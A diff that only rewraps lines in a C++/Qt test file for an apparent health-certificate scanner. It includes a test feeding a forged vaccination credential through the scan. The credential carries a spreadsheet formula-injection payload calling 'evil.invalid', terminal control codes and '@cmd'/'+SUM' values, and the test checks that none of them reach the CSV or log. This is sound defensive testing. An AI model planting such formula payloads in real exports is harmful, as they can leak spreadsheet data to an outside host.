@@ -46,15 +46,18 @@ LogContents contents(const QString& path)
     const QDate today = QDate::currentDate();
     if (auto rows = (*log)->listRange(today.addDays(-1), today.addDays(1))) {
         for (const auto& v : *rows) {
-            c.visits << QStringList{v.verdict, v.reasons, v.format, v.type, v.policy, v.country, v.input, v.staff,
-                                    QString::fromLatin1(v.idHash.isEmpty() ? "" : "id")}
+            c.visits << QStringList{v.verdict, v.reasons, v.format,
+                                    v.type,    v.policy,  v.country,
+                                    v.input,   v.staff,   QString::fromLatin1(v.idHash.isEmpty() ? "" : "id")}
                             .join(QLatin1Char('|'));
         }
     }
     log::EvidenceJournal journal((*log)->database(), clock);
-    if (auto events = journal.list(QDateTime::currentDateTimeUtc().addDays(-1), QDateTime::currentDateTimeUtc().addDays(1))) {
+    if (auto events =
+            journal.list(QDateTime::currentDateTimeUtc().addDays(-1), QDateTime::currentDateTimeUtc().addDays(1))) {
         for (const auto& e : *events) {
-            c.evidence << e.kind + QLatin1Char('|') + e.cause + QLatin1Char('|') + (e.ended.isValid() ? QStringLiteral("closed") : QStringLiteral("open"));
+            c.evidence << e.kind + QLatin1Char('|') + e.cause + QLatin1Char('|') +
+                              (e.ended.isValid() ? QStringLiteral("closed") : QStringLiteral("open"));
         }
     }
     return c;
@@ -64,7 +67,8 @@ LogContents contents(const QString& path)
 QString writeCode(const QString& dir, const QString& name, const QByteArray& text)
 {
     cv::Mat m;
-    cv::copyMakeBorder(test::QrRenderer::modules(QString::fromLatin1(text)), m, 4, 4, 4, 4, cv::BORDER_CONSTANT, cv::Scalar(255));
+    cv::copyMakeBorder(test::QrRenderer::modules(QString::fromLatin1(text)), m, 4, 4, 4, 4, cv::BORDER_CONSTANT,
+                       cv::Scalar(255));
     cv::resize(m, m, {}, 3, 3, cv::INTER_NEAREST);
     const QString path = dir + QLatin1Char('/') + name;
     cv::imwrite(path.toStdString(), m);
@@ -108,7 +112,8 @@ void SessionShellsTest::headlessScanLogsExactlyWhatTheWindowLogs()
     {
         auto store = std::make_shared<trust::TrustStore>();
         QVERIFY(store->importPath(trustList));
-        auto source = std::make_unique<scan::FileSource>(footage, false, std::chrono::milliseconds(0), QStringLiteral("demo footage"));
+        auto source = std::make_unique<scan::FileSource>(footage, false, std::chrono::milliseconds(0),
+                                                         QStringLiteral("demo footage"));
         QThread thread;
         auto* worker = new ui::ScanWorker(std::move(source), store, g_clock, windowLog);
         worker->moveToThread(&thread);
@@ -117,12 +122,14 @@ void SessionShellsTest::headlessScanLogsExactlyWhatTheWindowLogs()
         QSignalSpy outcomes(worker, &ui::ScanWorker::outcomeReady);
         QSignalSpy failures(worker, &ui::ScanWorker::logFailed);
         thread.start();
-        QMetaObject::invokeMethod(worker, [worker, at] { worker->setFixedTime(QDateTime::fromString(at, Qt::ISODate)); },
-                                  Qt::BlockingQueuedConnection);
+        QMetaObject::invokeMethod(
+            worker, [worker, at] { worker->setFixedTime(QDateTime::fromString(at, Qt::ISODate)); },
+            Qt::BlockingQueuedConnection);
         QMetaObject::invokeMethod(worker, &ui::ScanWorker::start, Qt::BlockingQueuedConnection);
-        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(states.cbegin(), states.cend(),
-                                             [](const QList<QVariant>& s) { return s.at(1).toInt() == int(scan::SourceState::Finished); }),
-                                 60000);
+        QTRY_VERIFY_WITH_TIMEOUT(
+            std::any_of(states.cbegin(), states.cend(),
+                        [](const QList<QVariant>& s) { return s.at(1).toInt() == int(scan::SourceState::Finished); }),
+            60000);
         QMetaObject::invokeMethod(worker, &ui::ScanWorker::stop, Qt::BlockingQueuedConnection);
         thread.quit();
         thread.wait();
@@ -131,7 +138,9 @@ void SessionShellsTest::headlessScanLogsExactlyWhatTheWindowLogs()
     }
 
     // The headless scan, as `passdesk-cli scan --source demo` and the GUI's headless demo run it.
-    QCOMPARE(cli::runScan({QStringLiteral("--source"), QStringLiteral("demo"), QStringLiteral("--db"), cliLog, QStringLiteral("--at"), at}), 0);
+    QCOMPARE(cli::runScan({QStringLiteral("--source"), QStringLiteral("demo"), QStringLiteral("--db"), cliLog,
+                           QStringLiteral("--at"), at}),
+             0);
 
     const LogContents window = contents(windowLog);
     const LogContents headless = contents(cliLog);
@@ -143,7 +152,8 @@ void SessionShellsTest::headlessScanLogsExactlyWhatTheWindowLogs()
     verdicts.removeDuplicates();
     QVERIFY2(verdicts.size() >= 2, qPrintable(verdicts.join(u',')));
     QCOMPARE(headless.visits, window.visits);
-    QVERIFY2(window.evidence.contains(QStringLiteral("unclean_shutdown|the previous run ended without closing (crash, power cut or kill)|closed")),
+    QVERIFY2(window.evidence.contains(QStringLiteral(
+                 "unclean_shutdown|the previous run ended without closing (crash, power cut or kill)|closed")),
              qPrintable(window.evidence.join(u';')));
     QCOMPARE(headless.evidence, window.evidence);
 }
@@ -155,19 +165,26 @@ void SessionShellsTest::forgedClaimsNeverReachTheCsvOrLogUnmarked()
     const QString formula = QStringLiteral("=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")");
     const QString control = QStringLiteral("\x01\x1b[31m\x7f");
     const QString huge(10000, QLatin1Char('W'));
-    QJsonObject payload = credential::DemoIssuer::euVaccination(formula + control, huge, QStringLiteral("+SUM(1,2)"),
-                                                                QStringLiteral("@cmd"), QStringLiteral("1990-01-01"), 2, 2,
-                                                                QDate(2021, 11, 1), QStringLiteral("KR"), QStringLiteral("URN:UVCI:01:KR:FORGED"));
+    QJsonObject payload = credential::DemoIssuer::euVaccination(
+        formula + control, huge, QStringLiteral("+SUM(1,2)"), QStringLiteral("@cmd"), QStringLiteral("1990-01-01"), 2,
+        2, QDate(2021, 11, 1), QStringLiteral("KR"), QStringLiteral("URN:UVCI:01:KR:FORGED"));
     // The forger names a real trusted signer (the demo DSC, so its kid matches) but signs with a key of his own.
     QFile listFile(app::demoDir() + QStringLiteral("/trust-list.json"));
     QVERIFY(listFile.open(QIODevice::ReadOnly));
-    const QString dscBase64 =
-        QJsonDocument::fromJson(listFile.readAll()).object().value(QStringLiteral("dsc")).toArray().at(0).toObject().value(QStringLiteral("certificate")).toString();
+    const QString dscBase64 = QJsonDocument::fromJson(listFile.readAll())
+                                  .object()
+                                  .value(QStringLiteral("dsc"))
+                                  .toArray()
+                                  .at(0)
+                                  .toObject()
+                                  .value(QStringLiteral("certificate"))
+                                  .toString();
     auto dsc = crypto::X509Certificate::fromDer(QByteArray::fromBase64(dscBase64.toLatin1()));
     QVERIFY(dsc);
     const crypto::SigningKey forger = crypto::SigningKey::generate(crypto::SigningKey::Type::EcP256);
     const QDateTime issued(QDate(2021, 12, 1), QTime(9, 0), Qt::UTC);
-    const QByteArray text = credential::DemoIssuer::euDccText(payload, formula + control + huge, issued, issued.addYears(1), forger, *dsc);
+    const QByteArray text =
+        credential::DemoIssuer::euDccText(payload, formula + control + huge, issued, issued.addYears(1), forger, *dsc);
     const QString images = dir.filePath(QStringLiteral("codes"));
     QVERIFY(QDir().mkpath(images));
     writeCode(images, QStringLiteral("forged.png"), text);
@@ -175,8 +192,9 @@ void SessionShellsTest::forgedClaimsNeverReachTheCsvOrLogUnmarked()
     // Trust only the demo list: the forger's key is unknown.
     const QString logPath = dir.filePath(QStringLiteral("visits.db"));
     const QString csvPath = dir.filePath(QStringLiteral("scan.csv"));
-    QCOMPARE(cli::runScan({QStringLiteral("--source"), images, QStringLiteral("--trust"), app::demoDir() + QStringLiteral("/trust-list.json"),
-                           QStringLiteral("--db"), logPath, QStringLiteral("--report"), csvPath, QStringLiteral("--at"),
+    QCOMPARE(cli::runScan({QStringLiteral("--source"), images, QStringLiteral("--trust"),
+                           app::demoDir() + QStringLiteral("/trust-list.json"), QStringLiteral("--db"), logPath,
+                           QStringLiteral("--report"), csvPath, QStringLiteral("--at"),
                            issued.addDays(40).toString(Qt::ISODate)}),
              0);
 
@@ -213,7 +231,8 @@ void SessionShellsTest::forgedClaimsNeverReachTheCsvOrLogUnmarked()
     QCOMPARE(v.country, QStringLiteral("unverified"));
     QVERIFY(v.holderName.isEmpty());
     for (const QString& f : {v.verdict, v.reasons, v.format, v.type, v.policy, v.country, v.input, v.staff}) {
-        QVERIFY2(!f.contains(QStringLiteral("HYPERLINK")) && !f.contains(u'\x01') && f.size() < 200, qPrintable(f.left(80)));
+        QVERIFY2(!f.contains(QStringLiteral("HYPERLINK")) && !f.contains(u'\x01') && f.size() < 200,
+                 qPrintable(f.left(80)));
     }
 }
 
